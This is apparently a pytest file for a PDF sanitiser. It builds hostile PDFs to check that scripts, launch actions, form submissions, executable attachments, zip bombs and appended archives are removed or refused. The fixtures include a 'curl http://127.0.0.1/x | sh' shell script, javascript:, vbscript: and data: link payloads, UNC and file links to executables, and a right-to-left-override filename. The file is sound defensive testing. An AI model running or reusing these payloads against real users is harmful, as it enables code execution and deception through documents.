"""presentations.pdf_clean: what the rewritten copy keeps, what it loses, what makes it refuse the file.

Every PDF is generated here (pikepdf, WeasyPrint, raw bytes). The copy is re-opened and checked by
tests.presentations.hostile_pdfs.inert_problems, which does not reuse the cleaner's code.
"""

import io
import time
import zlib
from pathlib import Path

import pikepdf
import pypdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from presentations import pdf_clean
from presentations.enums import RemovedContent
from presentations.pdf_clean import clean_pdf, uri_codes
from presentations.pdf_inspect import is_executable_name
from presentations.refusals import FileRejectedError
from tests.presentations import hostile_pdfs as h

MB = 1024 * 1024


def clean(tmp_path: Path, data: bytes) -> tuple[list[str], bytes]:
    source, target = tmp_path / "upload.pdf", tmp_path / "clean.pdf"
    source.write_bytes(data)
    removed = clean_pdf(source, target)
    return removed, target.read_bytes()


def refused(tmp_path: Path, data: bytes) -> FileRejectedError:
    with pytest.raises(FileRejectedError) as excinfo:
        clean(tmp_path, data)
    return excinfo.value


def pages(data: bytes) -> int:
    return len(pypdf.PdfReader(io.BytesIO(data)).pages)


def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    html = (
        "<h1>Irrigation co-financing</h1><p>See <a href='https://example.org/irrigation'>the programme</a>"
        " and <a href='mailto:secretariat@example.org'>write to us</a>.</p>"
        "<h2 id='annex' style='break-before: page'>Annex</h2><p><a href='#annex'>Back to the annex</a></p>"
    )
    return HTML(string=html).write_pdf()


# --- what stays ----------------------------------------------------------------------------------------


def test_a_clean_weasyprint_pdf_keeps_its_pages_and_links_and_loses_nothing(tmp_path):
    data = weasyprint_pdf()
    removed, copy = clean(tmp_path, data)
    assert removed == []
    assert pages(copy) == pages(data) == 2
    assert sorted(h.web_links(copy)) == ["https://example.org/irrigation", "mailto:secretariat@example.org"]
    assert "Irrigation co-financing" in pypdf.PdfReader(io.BytesIO(copy)).pages[0].extract_text()
    assert h.inert_problems(copy) == []


def test_internal_links_bookmarks_named_destinations_and_page_moves_stay(tmp_path):
    def navigation(pdf):
        h.link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
        h.link(pdf, Dictionary(S=Name.GoTo, D=String("annex")))
        h.link(pdf, Dictionary(S=Name.Named, N=Name.NextPage))
        pdf.Root.Names = Dictionary(
            Dests=Dictionary(Names=Array([String("annex"), Array([pdf.pages[1].obj, Name.Fit])]))
        )
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Annex", 1))
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])  # "open at page 1": goes, unmentioned

    removed, copy = clean(tmp_path, h.build(navigation))
    assert removed == []
    with pikepdf.open(io.BytesIO(copy)) as pdf:
        actions = [annotation.A for annotation in pdf.pages[0].obj.Annots]
        assert [str(action.S) for action in actions] == ["/GoTo", "/GoTo", "/Named"]
        assert "/Dests" in pdf.Root.Names
        assert "/OpenAction" not in pdf.Root
    assert [item.title for item in pypdf.PdfReader(io.BytesIO(copy)).outline] == ["Annex"]


def test_the_same_upload_gives_the_same_bytes(tmp_path):
    data = h.build(h.javascript_link)
    first = clean(tmp_path, data)[1]
    assert clean(tmp_path, data)[1] == first


# --- what goes -----------------------------------------------------------------------------------------


def next_chain(pdf):
    submit = Dictionary(S=Name.SubmitForm, F=String(h.COLLECT_URL))
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    h.link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=Array([submit, goto])))


def xfa_form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def media(subtype):
    def add(pdf):
        h.add_annotation(pdf, Dictionary(Subtype=Name(subtype)))

    return add


def rendition(pdf):
    h.link(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String("play();")))


def unknown_named_action(pdf):
    h.link(pdf, Dictionary(S=Name.Named, N=Name.Quit))


def thread_in_another_file(pdf):
    h.link(pdf, Dictionary(S=Name.Thread, F=String("other.pdf"), D=0))


def unknown_action(pdf):
    h.link(pdf, Dictionary(S=Name("/SetPortalSecret"), Value=1))


def associated_file(pdf):
    embedded = pdf.make_stream(b"<invoice/>")
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("invoice.xml"), EF=Dictionary(F=embedded)))
    pdf.Root.AF = Array([spec])


def portfolio(pdf):
    h.attach(pdf, b"a", "a.txt")
    pdf.Root.Collection = Dictionary(View=Name.D)


def script_on_a_plain_dictionary(pdf):
    pdf.pages[0].obj.Portal = Dictionary(JS=String("app.alert(1)"))


R = RemovedContent
HOSTILE = {
    "harmless attachment": (lambda pdf: h.attach(pdf, b"Agenda", "agenda.txt"), [R.PDF_ATTACHMENTS]),
    "file attachment annotation": (h.file_attachment_annotation, [R.PDF_ATTACHMENTS]),
    "associated file (/AF)": (associated_file, [R.PDF_ATTACHMENTS]),
    "portfolio": (portfolio, [R.PDF_ATTACHMENTS]),
    "document javascript": (h.document_javascript, [R.PDF_JAVASCRIPT]),
    "open action submitting a form": (h.open_action_submit_form, [R.PDF_OPEN_ACTION, R.PDF_FORM_SUBMISSION]),
    "page additional actions": (h.page_additional_actions, [R.PDF_OPEN_ACTION, R.PDF_FORM_SUBMISSION]),
    "javascript: link": (h.javascript_link, [R.PDF_SCRIPT_LINKS]),
    "launch in a bookmark": (h.launch_in_bookmark, [R.PDF_EXTERNAL_LINKS]),
    "goto remote": (h.goto_remote, [R.PDF_EXTERNAL_LINKS]),
    "goto embedded": (h.goto_embedded, [R.PDF_EXTERNAL_LINKS]),
    "import data": (h.import_data, [R.PDF_EXTERNAL_LINKS]),
    "javascript only reachable indirectly": (h.hidden_javascript, [R.PDF_JAVASCRIPT]),
    "/JS on a dictionary that is no action": (script_on_a_plain_dictionary, [R.PDF_JAVASCRIPT]),
    "submit chained after a goto": (next_chain, [R.PDF_FORM_SUBMISSION]),
    "xfa form": (xfa_form, [R.PDF_XFA_FORM]),
    "rich media": (media("/RichMedia"), [R.PDF_MEDIA]),
    "screen": (media("/Screen"), [R.PDF_MEDIA]),
    "3d": (media("/3D"), [R.PDF_MEDIA]),
    "rendition with a script": (rendition, [R.PDF_JAVASCRIPT, R.PDF_MEDIA]),
    "non-standard named action": (unknown_named_action, [R.PDF_OTHER_ACTIONS]),
    "article thread in another file": (thread_in_another_file, [R.PDF_EXTERNAL_LINKS]),
    "unknown action type": (unknown_action, [R.PDF_OTHER_ACTIONS]),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_a_hostile_part_is_removed_and_named(tmp_path, case):
    change, expected = HOSTILE[case]
    data = h.build(change)
    removed, copy = clean(tmp_path, data)
    assert removed == [code.value for code in expected]
    assert h.inert_problems(copy) == []
    assert pages(copy) == pages(data) == 2
    assert h.MARKER in pypdf.PdfReader(io.BytesIO(copy)).pages[0].extract_text()


def test_a_chain_keeps_its_harmless_actions(tmp_path):
    _removed, copy = clean(tmp_path, h.build(next_chain))
    with pikepdf.open(io.BytesIO(copy)) as pdf:
        action = pdf.pages[0].obj.Annots[0].A
        assert str(action.S) == "/GoTo"
        assert [str(step.S) for step in action.Next] == ["/GoTo"]


def test_a_bookmark_keeps_its_title_without_its_launch(tmp_path):
    _removed, copy = clean(tmp_path, h.build(h.launch_in_bookmark))
    assert [item.title for item in pypdf.PdfReader(io.BytesIO(copy)).outline] == ["Start", "Open the calculator"]


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://example.org/a", []),
        ("HTTP://example.org", []),
        ("mailto:secretariat@example.org", []),
        ("tel:+90312000000", []),
        ("www.example.org/page", []),
        ("javascript:alert(1)", [R.PDF_SCRIPT_LINKS]),
        ("  JaVaScRiPt:alert(1)", [R.PDF_SCRIPT_LINKS]),
        ("java\tscript:alert(1)", [R.PDF_SCRIPT_LINKS]),
        ("java\u200bscript:alert(1)", [R.PDF_SCRIPT_LINKS]),
        ("\x00javascript:alert(1)", [R.PDF_SCRIPT_LINKS]),
        ("vbscript:msgbox(1)", [R.PDF_SCRIPT_LINKS]),
        ("data:text/html,<script>alert(1)</script>", [R.PDF_SCRIPT_LINKS]),
        ("file:///C:/Windows/System32/calc.exe", [R.PDF_EXTERNAL_LINKS]),
        ("FILE://server/share", [R.PDF_EXTERNAL_LINKS]),
        ("\\\\127.0.0.1\\share\\x.exe", [R.PDF_EXTERNAL_LINKS]),
        ("../../evil.exe", [R.PDF_EXTERNAL_LINKS]),
        ("smb://127.0.0.1/share", [R.PDF_EXTERNAL_LINKS]),
    ],
)
def test_links_are_judged_by_their_scheme(address, expected):
    assert uri_codes(String(address)) == [code.value for code in expected]


# --- refused -------------------------------------------------------------------------------------------

MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(64)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        pytest.param(h.EXE, "agenda.pdf", id="windows_executable_named_pdf"),
        pytest.param(h.ELF, "notes.txt", id="linux_executable"),
        pytest.param(MACH_O, "slides.key", id="mac_executable"),
        pytest.param(b"#!/bin/sh\ncurl http://127.0.0.1/x | sh\n", "readme", id="shell_script"),
        pytest.param(LNK, "shortcut", id="windows_shortcut"),
        pytest.param(b"Write-Host 'hello'", "setup.ps1", id="powershell_by_name"),
        pytest.param(b"harmless text", "Setup.EXE. ", id="exe_name_padded"),
        pytest.param(b"harmless text", "notes.exe\x00.txt", id="exe_name_cut_by_nul"),
        pytest.param(b"MsgBox 1", "invoice\u202etxt.vbs", id="vbs_behind_rtl_override"),
    ],
)
def test_an_executable_attachment_refuses_the_file(tmp_path, data, name):
    error = refused(tmp_path, h.build(lambda pdf: h.attach(pdf, data, name)))
    assert error.code == "pdf_executable_attachment"
    assert "program attached" in error.messages[0]


def test_an_executable_is_recognised_inside_a_compressed_attachment_annotation(tmp_path):
    def compressed_exe(pdf):
        h.file_attachment_annotation(pdf, b"", "notes.txt")
        stream = pdf.pages[0].obj.Annots[0].FS.EF.F
        stream.write(zlib.compress(h.EXE + bytes(MB)), filter=Name.FlateDecode)

    assert refused(tmp_path, h.build(compressed_exe)).code == "pdf_executable_attachment"


def test_an_executable_declared_by_its_media_type_refuses_the_file(tmp_path):
    def declared(pdf):
        h.file_attachment_annotation(pdf, b"plain bytes", "notes.txt")
        pdf.pages[0].obj.Annots[0].FS.EF.F.Subtype = Name("/application/x-msdownload")

    assert refused(tmp_path, h.build(declared)).code == "pdf_executable_attachment"


def test_an_attachment_that_inflates_hugely_is_removed_without_inflating_it(tmp_path):
    compressor = zlib.compressobj(9)
    bomb = b"".join(compressor.compress(bytes(MB)) for _ in range(256)) + compressor.flush()  # 256 MB of zeros

    def attach_bomb(pdf):
        h.file_attachment_annotation(pdf, b"", "zeros.txt")
        pdf.pages[0].obj.Annots[0].FS.EF.F.write(bomb, filter=Name.FlateDecode)

    data = h.build(attach_bomb)
    started = time.monotonic()
    removed, copy = clean(tmp_path, data)
    assert time.monotonic() - started < 5
    assert removed == [R.PDF_ATTACHMENTS.value]
    assert h.inert_problems(copy) == []
    assert len(copy) < 100_000


def test_page_content_is_copied_still_compressed(tmp_path):
    compressor = zlib.compressobj(9)
    bomb = b"".join(compressor.compress(b" " * MB) for _ in range(200)) + compressor.flush()

    def content_bomb(pdf):
        pdf.pages[1].obj.Contents = pdf.make_stream(bomb)
        pdf.pages[1].obj.Contents.Filter = Name.FlateDecode

    _removed, copy = clean(tmp_path, h.build(content_bomb))
    with pikepdf.open(io.BytesIO(copy)) as pdf:
        assert pdf.pages[1].obj.Contents.read_raw_bytes() == bomb  # never inflated, byte for byte


@pytest.mark.parametrize(
    "name", ["setup.exe", "a/b/run.BAT", "x.ps1", "tool.jar", "link.lnk", "install.msi", "s.exe ..."]
)
def test_executable_names(name):
    assert is_executable_name(name)


@pytest.mark.parametrize("name", ["notes.txt", "data.csv", "slides.pdf", "exe", "photo.jpeg", "report.docx"])
def test_ordinary_names(name):
    assert not is_executable_name(name)


def test_an_archive_hidden_in_image_data_refuses_the_file(tmp_path):
    def zip_in_image(pdf):
        image = pdf.make_stream(h.zip_bytes())
        image.Type, image.Subtype, image.Filter = Name.XObject, Name.Image, Name.DCTDecode
        image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = 1, 1, 8, Name.DeviceGray
        pdf.pages[0].obj.Resources.XObject = Dictionary(Im9=image)

    assert refused(tmp_path, h.build(zip_in_image)).code == "pdf_hidden_archive"


def test_zip_signature_bytes_by_chance_are_no_archive(tmp_path):
    def stray_signature(pdf):
        image = pdf.make_stream(b"\xff\xd8" + b"PK\x05\x06" + bytes(18) + b"PK\x05\x06\x00\x00\x00\x00\x01\x00")
        image.Filter = Name.DCTDecode
        pdf.pages[0].obj.Portal = image

    removed, copy = clean(tmp_path, h.build(stray_signature))
    assert removed == []
    assert pages(copy) == 2


def test_a_damaged_pdf_is_refused(tmp_path):
    error = refused(tmp_path, b"%PDF-1.7\n" + bytes(range(256)) * 40)
    assert error.code == "pdf_damaged"


def test_a_pdf_with_too_many_objects_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(pdf_clean, "MAX_INDIRECT_OBJECTS", 10)
    assert refused(tmp_path, h.build(h.javascript_link)).code == "pdf_too_complex"


def test_a_pdf_understating_its_object_count_is_still_counted(tmp_path, monkeypatch):
    monkeypatch.setattr(pdf_clean, "MAX_INDIRECT_OBJECTS", 5)  # the file holds 10 objects, and says 3
    data = h.build(h.javascript_link)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size = int(pdf.trailer.Size)
    assert f"/Size {size} ".encode() in data
    data = data.replace(f"/Size {size} ".encode(), b"/Size 3" + b" " * (len(str(size)) - 1 + 1))
    assert refused(tmp_path, data).code == "pdf_too_complex"


# --- bytes around the PDF ------------------------------------------------------------------------------


@pytest.mark.parametrize("appended", [h.zip_bytes, lambda: h.pptx_bytes("A second life")], ids=["zip", "pptx"])
def test_a_file_appended_after_the_end_is_dropped(tmp_path, appended):
    data = h.deck() + appended()
    removed, copy = clean(tmp_path, data)
    assert removed == [R.PDF_TRAILING_DATA.value]
    assert h.inert_problems(copy) == []
    assert copy.endswith(b"%%EOF\n")
    assert pages(copy) == pages(h.deck())


def test_a_few_bytes_after_the_end_are_named_too(tmp_path):
    removed, copy = clean(tmp_path, h.deck() + b"<script>alert(1)</script>")
    assert removed == [R.PDF_TRAILING_DATA.value]
    assert b"<script>" not in copy


def test_junk_before_the_header_is_dropped(tmp_path):
    # The upload check refuses this already (%PDF- must be at offset 0); the cleaner copes anyway.
    _removed, copy = clean(tmp_path, b"<html>junk</html>\n" + h.deck())
    assert copy.startswith(b"%PDF-")
    assert b"<html>" not in copy
    assert pages(copy) == 2
